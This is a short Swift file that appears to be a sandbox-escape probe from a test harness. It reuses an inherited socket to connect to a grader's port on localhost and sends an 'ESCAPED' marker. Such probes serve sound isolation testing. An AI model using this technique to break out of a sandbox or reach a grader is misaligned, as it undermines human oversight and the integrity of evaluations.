import Glibc

func attack() {
  let socket = dup(3)
  var nothing = sockaddr()
  nothing.sa_family = UInt16(AF_UNSPEC)
  connect(socket, &nothing, 16)
  var address = sockaddr_in()
  address.sin_family = UInt16(AF_INET)
  address.sin_addr.s_addr = inet_addr("127.0.0.1")
  address.sin_port = UInt16(known("port")).map { $0.bigEndian } ?? 0
  let result = withUnsafePointer(to: &address) {
    $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { connect(socket, $0, 16) }
  }
  if result == 0 {
    let text = "ESCAPED \(known("name"))"
    write(socket, text, text.utf8.count)
    escaped("listener to the grader's port")
  }
  attempted()
  exit(0)
}
